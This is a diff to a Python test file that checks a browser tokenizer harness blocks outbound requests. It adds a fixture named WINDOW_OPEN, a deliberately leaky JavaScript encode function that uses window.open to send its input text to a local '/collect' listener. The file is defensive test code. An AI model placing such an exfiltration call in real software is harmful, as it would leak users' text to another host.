@@ -75,22 +75,29 @@ export function encode(text) {
   return [1, 2, 3];
 }
 """
+WINDOW_OPEN = """export function encode(text) {
+  window.open("http://127.0.0.1:PORT/collect?q=" + encodeURIComponent(text));
+  return [1, 2, 3];
+}
+"""
 CHANNELS = {"form POST": FORM_POST, "fetch with the violation event silenced": SILENCED_FETCH}
-ENGINES = [
-    "js",
-    pytest.param("firefox:js", marks=pytest.mark.nightly),
-    pytest.param("webkit:js", marks=pytest.mark.nightly),
+NIGHTLY_CHANNELS = {"window.open": WINDOW_OPEN}  # every channel in every engine: test_egress_channels.py
+ENGINES = ["js", "firefox:js", "webkit:js"]
+IN_MAKE_TEST = {"js"}  # Firefox and WebKit through the CLI are nightly (test_egress_channels.py covers them)
+CASES = [
+    pytest.param(c, r, marks=[] if r in IN_MAKE_TEST and c in CHANNELS else [pytest.mark.nightly], id=f"{c}-{r}")
+    for c in [*sorted(CHANNELS), *NIGHTLY_CHANNELS]
+    for r in (ENGINES if c in CHANNELS else ["js", "firefox:js"])
 ]
 
 
-@pytest.mark.parametrize("runtime", ENGINES)
-@pytest.mark.parametrize("channel", sorted(CHANNELS))
+@pytest.mark.parametrize(("channel", "runtime"), CASES)
 def test_a_review_never_reaches_another_host(tmp_path: Path, listener: Listener, channel: str, runtime: str) -> None:
     ok = tokenizer_browser.availability(runtime)
     if not ok.ok:
         pytest.skip(f"tokenizer runtime {runtime} unavailable: {ok.reason}")
     module = tmp_path / "leaky.js"
-    module.write_text(CHANNELS[channel].replace("PORT", str(listener.port)))
+    module.write_text({**CHANNELS, **NIGHTLY_CHANNELS}[channel].replace("PORT", str(listener.port)))
     env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "HARNESS_PAGE_CALL_SECONDS": "20"}
     proc = subprocess.run(
         [
@@ -113,4 +120,4 @@ def test_a_review_never_reaches_another_host(tmp_path: Path, listener: Listener,
     assert REVIEW.encode() not in listener.received, (listener.connections, bytes(listener.received[:200]))
     assert proc.returncode == 1, (proc.stdout, proc.stderr)
     error = json.loads(proc.stdout.splitlines()[0])["errors"][runtime]
-    assert f"blocked a request off this machine: http://127.0.0.1:{listener.port}/collect" in error, error
+    assert "blocked a request off this machine: " in error and f"127.0.0.1:{listener.port}" in error, error
